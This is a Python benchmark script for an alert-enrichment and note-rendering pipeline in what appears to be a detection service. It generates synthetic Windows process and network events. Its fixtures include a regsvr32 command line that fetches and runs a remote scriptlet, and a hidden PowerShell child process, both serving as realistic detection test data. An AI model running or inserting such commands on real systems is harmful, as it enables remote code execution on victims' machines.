"""Alert pipeline throughput: enrich + render note + build ECS alert + serialise (one core).

Realistic hits: 3-event sequences (process start, outbound connection, child process) in
Elastic Defend's ECS shape, with varied hosts, users, pids and IPs (public, private,
documentation, CGNAT, IPv6). Templates are compiled once, as in the service. Times are
CPU time of this process (one core), so busy neighbours on a shared machine disturb them
less.

    uv run python bench/alert_pipeline.py [--alerts 20000] [--template default.md.j2]
"""

from __future__ import annotations

import argparse
import gc
import random
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from eqlwatch.alerts import Links, alert_id, build_alert, serialize_alert
from eqlwatch.enrich import Enricher, load_ip_table
from eqlwatch.hitfacts import facts_of, present_sources
from eqlwatch.model import Hit, HitEvent
from eqlwatch.notes import NoteRenderer
from eqlwatch.notes.check import synthetic_rule
from eqlwatch.notes.render import alert_view
from eqlwatch.pipeline.alerting import AlertBuilder
from eqlwatch.rules.model import Rule

ROOT = Path(__file__).resolve().parents[1]


def _ip(rng: random.Random) -> str:
    pick = rng.random()
    if pick < 0.4:
        first = rng.randint(1, 223)
        return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if pick < 0.6:
        return f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if pick < 0.7:
        return f"100.{rng.randint(64, 127)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if pick < 0.8:
        return f"203.0.113.{rng.randint(1, 254)}"
    return f"2001:db8:{rng.randint(0, 65535):x}::{rng.randint(1, 65535):x}"


def make_hit(i: int, rng: random.Random) -> Hit:
    host = {"name": f"ws-{i % 500:04d}", "id": f"h{i % 500}", "os": {"type": "windows"}}
    user = {"name": f"user{i % 900}", "domain": "CORP"}
    pid, ts = 1000 + i % 30000, f"2025-06-01T10:{i // 3600 % 60:02d}:{i % 60:02d}.000Z"
    proc = {
        "name": "regsvr32.exe",
        "pid": pid,
        "entity_id": f"ent-{i}",
        "executable": "C:\\Windows\\System32\\regsvr32.exe",
        "command_line": f"regsvr32.exe /s /u /i:http://{_ip(rng)}/p{i}.sct scrobj.dll",
        "parent": {
            "name": "cmd.exe",
            "pid": pid - 1,
            "entity_id": f"ent-p{i}",
            "command_line": "cmd.exe /c setup.bat",
        },
    }
    child = {
        "name": "powershell.exe",
        "pid": pid + 1,
        "entity_id": f"ent-c{i}",
        "command_line": "powershell.exe -nop -w hidden",
        "parent": {"name": "regsvr32.exe", "pid": pid, "entity_id": f"ent-{i}"},
    }
    base = {"host": host, "user": user, "agent": {"type": "endpoint"}}
    sources: list[dict[str, Any]] = [
        {
            **base,
            "@timestamp": ts,
            "process": proc,
            "event": {"category": ["process"], "type": ["start"]},
        },
        {
            **base,
            "@timestamp": ts,
            "process": proc,
            "event": {"category": ["network"], "type": ["start"]},
            "source": {"ip": _ip(rng), "port": rng.randint(1024, 65535)},
            "destination": {"ip": _ip(rng), "port": 443},
            "network": {"protocol": "tls"},
        },
        {
            **base,
            "@timestamp": ts,
            "process": child,
            "event": {"category": ["process"], "type": ["start"]},
        },
    ]
    index = ".ds-logs-endpoint.events.process-default-2025.06.01-000001"
    events = tuple(HitEvent(index, f"doc-{i}-{n}", s) for n, s in enumerate(sources))
    return Hit("sequence", events, (f"ent-{i}",))


def run(
    rule: Rule, hits: list[Hit], renderer: NoteRenderer, enricher: Enricher
) -> dict[str, float]:
    """The steps of `AlertBuilder`, each timed (enrich = IP walk + shared event facts)."""
    now = datetime(2025, 6, 1, 11, tzinfo=UTC)
    links = Links(kibana_url="http://localhost:5601")
    spent = {"enrich": 0.0, "render": 0.0, "build": 0.0, "serialise": 0.0}
    total_bytes = 0
    clock = time.process_time  # CPU time of this process: one core, robust to busy neighbours
    start = clock()
    for hit in hits:
        t0 = clock()
        sources = present_sources(hit)
        enrichment, plain = enricher.scan(sources)
        facts = facts_of(sources, plain)
        t1 = clock()
        ident = alert_id(rule.rule_id, hit.events)
        view = alert_view(
            ident,
            rule,
            hit,
            job_id="bench",
            detected_at=now.isoformat(),
            timestamp_field="@timestamp",
            facts=facts,
        )
        note = renderer.render(rule, hit, enrichment, alert=view, facts=facts)
        t2 = clock()
        alert = build_alert(
            rule,
            hit,
            enrichment,
            note.text,
            detected_at=now,
            job_id="bench",
            links=links,
            facts=facts,
            ident=ident,
        )
        t3 = clock()
        total_bytes += len(serialize_alert(alert))
        t4 = clock()
        spent["enrich"] += t1 - t0
        spent["render"] += t2 - t1
        spent["build"] += t3 - t2
        spent["serialise"] += t4 - t3
    spent["total"] = clock() - start
    spent["bytes"] = total_bytes
    assert renderer.errors == 0, "template errors during the bench"
    return spent


def run_plain(rule: Rule, hits: list[Hit], templates: Path, warm: list[Hit]) -> float:
    """The service's own `AlertBuilder` + serialise, no timers: CPU seconds for all hits.

    A new builder each run (fresh IP cache); `warm` hits compile its template first.
    """
    now = datetime(2025, 6, 1, 11, tzinfo=UTC)
    builder = AlertBuilder(
        job_id="bench",
        templates_dir=templates,
        ip_table=load_ip_table(),
        links=Links(kibana_url="http://localhost:5601"),
    )
    for hit in warm:
        builder(rule, hit, detected_at=now)
    start = time.process_time()
    for hit in hits:
        alert = builder(rule, hit, detected_at=now)
        assert alert is not None
        serialize_alert(alert)
    spent = time.process_time() - start
    assert not builder.note_errors, "template errors during the bench"
    return spent


def fresh_enricher() -> Enricher:
    """An enricher with an empty classification cache (table loading is not timed)."""
    return Enricher(load_ip_table())


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=20000)
    parser.add_argument("--template", default="default.md.j2")
    parser.add_argument("--templates", type=Path, default=ROOT / "templates", help="folder")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--repeat", type=int, default=3, help="runs; the fastest is reported")
    args = parser.parse_args()
    rng = random.Random(args.seed)
    hits = [make_hit(i, rng) for i in range(args.alerts)]
    # The prepared hits are bench scaffolding that a real run never holds all at once; keep
    # the cyclic GC from rescanning them on every collection (what a service does after
    # start-up with the same call).
    gc.freeze()
    rule = synthetic_rule(args.template)
    renderer = NoteRenderer(args.templates)
    run(rule, hits[:200], renderer, fresh_enricher())  # warm-up: compile template, load table
    # A fresh table per run: replaying the same hits must not find every address already
    # in the classification cache (a real stream only repeats addresses it has seen).
    repeat = max(1, args.repeat)
    runs = [run(rule, hits, renderer, fresh_enricher()) for _ in range(repeat)]
    spent = min(runs, key=lambda r: r["total"])
    n = len(hits)
    print(
        f"alerts: {n} × {len(runs)} runs (fastest shown)  template: {args.template}"
        f"  avg document: {spent['bytes'] / n:.0f} bytes"
    )
    for phase in ("enrich", "render", "build", "serialise"):
        print(f"  {phase:<9} {spent[phase] / n * 1e6:7.1f} µs/alert")
    per_alert = spent["total"] / n * 1e6
    print(f"  total     {per_alert:7.1f} µs/alert  (with per-phase timers)")
    warm = [make_hit(n + i, rng) for i in range(200)]  # not part of the measured hits
    plain = min(run_plain(rule, hits, args.templates, warm) for _ in range(repeat))
    print(
        f"AlertBuilder + serialise, no timers: {plain / n * 1e6:.1f} µs/alert"
        f" → {n / plain:,.0f} alerts/s"
    )


if __name__ == "__main__":
    main()
